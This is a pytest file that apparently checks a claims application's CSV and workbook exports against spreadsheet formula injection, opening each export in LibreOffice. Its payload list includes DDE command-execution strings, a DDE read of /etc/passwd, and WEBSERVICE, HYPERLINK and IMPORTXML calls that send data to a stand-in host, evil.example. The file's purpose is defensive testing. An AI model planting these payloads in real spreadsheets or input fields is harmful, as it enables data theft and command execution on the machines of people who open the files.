"""What an attacker could type as a name, a title or a reason never becomes a formula: asked of LibreOffice itself."""

import subprocess
from collections import Counter
from decimal import Decimal
from xml.etree import ElementTree

import pytest

from claims.claim_files import files_of
from config.spreadsheets import csv_text
from tests.factories.accounts import UserFactory
from tests.factories.claimed import written_claim
from tests.factories.claims import DayEntryFactory, FundingAgreementFactory
from tests.factories.improvement import WorkstreamFactory

pytestmark = [pytest.mark.slow, pytest.mark.django_db]

_COMMANDS = [
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("https://evil.example","Click")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example/"&A1)',
    'DDE("soffice";"/etc/passwd";"A1")',
    'IMPORTXML("https://evil.example","//a")',
    "A1",
]
_BEFORE = ["=", "+", "-", "@", "==", "=-", "+=", "-+", "@="]
_HIDDEN = ["\t", "\r", "\n", " ", "  ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u202e", "\r\n", " \t"]
PAYLOADS = [
    *(before + command for before in _BEFORE for command in _COMMANDS),
    *(hidden + "=1+1" for hidden in _HIDDEN),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "{=1+1}", "'=1+1", '"=1+1"', '",=1+1,"', "x\r\n=1+1", "x;=1+1;"),
]
# Fields that LibreOffice is told to read as anybody could who wants formulas: spaces off, formulas evaluated.
_CSV = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,true,-1,true"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


@pytest.fixture
def claim(db):
    """A line for each payload, in a name and a title; the first half of the days is given back with one as reason."""
    agreement = FundingAgreementFactory(programme__slug="own")
    workstream = WorkstreamFactory(programme=agreement.programme, number=8, title="MASH")
    officer = UserFactory(name="Sam Hill")
    entry = DayEntryFactory(workstream=workstream, officer=officer)
    facts = (Decimal("1.0"), Decimal("500.00"), Decimal("20.0"))
    entries = [entry, *(DayEntryFactory(workstream=workstream) for _ in PAYLOADS[1:])]
    first = written_claim(agreement, "OWN-0001", [(each, *facts) for each in entries])
    given_back = list(first.lines.order_by("number"))
    claim = written_claim(agreement, "OWN-0002", [(each, *facts) for each in entries], given_back)
    lines = list(claim.lines.order_by("number"))
    for line, payload in zip(lines, PAYLOADS * 2, strict=True):
        line.officer_name = line.officer_role = line.workstream_title = payload
        line.reason = payload if line.is_adjustment else ""
    type(lines[0]).objects.bulk_update(lines, ["officer_name", "officer_role", "workstream_title", "reason"])
    return claim


def opened(folder, names, *how):
    """The root of each file as LibreOffice reads it; one conversion for all."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = ["soffice", profile, "--headless", *how, "--convert-to", "fods", "--outdir", str(folder / "read")]
    subprocess.run([*command, *(str(folder / name) for name in names)], check=True, capture_output=True, timeout=120)
    return [ElementTree.parse(folder / "read" / f"{name.rpartition('.')[0]}.fods").getroot() for name in names]


def formulas(root):
    return [cell.get(f"{_TABLE}formula") for cell in root.iter(f"{_TABLE}table-cell") if cell.get(f"{_TABLE}formula")]


def links(root):
    return [part.tag for part in root.iter() if part.tag.endswith("}a")]


def kinds_of_cells(root):
    return Counter(cell.get(f"{_OFFICE}value-type") for cell in root.iter(f"{_TABLE}table-cell"))


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_no_payload_becomes_a_formula_in_any_file(claim, tmp_path):
    files = [made for made in files_of(claim) if made.kind != "pdf"]
    for made in files:
        # The form and the workbooks would be read into files of one name.
        (tmp_path / f"{made.kind}-{made.name}").write_bytes(made.content)
    names = [f"{made.kind}-{made.name}" for made in files]
    csvs = [name for name in names if name.startswith("csv")]
    books = [name for name in names if not name.startswith("csv")]

    roots = [*opened(tmp_path, csvs, f"--infilter={_CSV}"), *opened(tmp_path, books)]

    assert len(roots) == 6
    assert [formulas(root) for root in roots] == [[]] * 6
    assert [links(root) for root in roots] == [[]] * 6
    # Numbers stay numbers, dates stay dates, in each of the many lines.
    for root in roots:
        kinds = kinds_of_cells(root)
        assert kinds["float"] >= 7 * 2 * len(PAYLOADS)
        assert kinds["date"] >= 2 * len(PAYLOADS)


def test_the_same_payloads_unguarded_do_become_formulas(tmp_path):
    (tmp_path / "unguarded.csv").write_text(csv_text([[payload] for payload in PAYLOADS]), encoding="utf-8", newline="")

    (root,) = opened(tmp_path, ["unguarded.csv"], f"--infilter={_CSV}")

    assert len(formulas(root)) >= 15
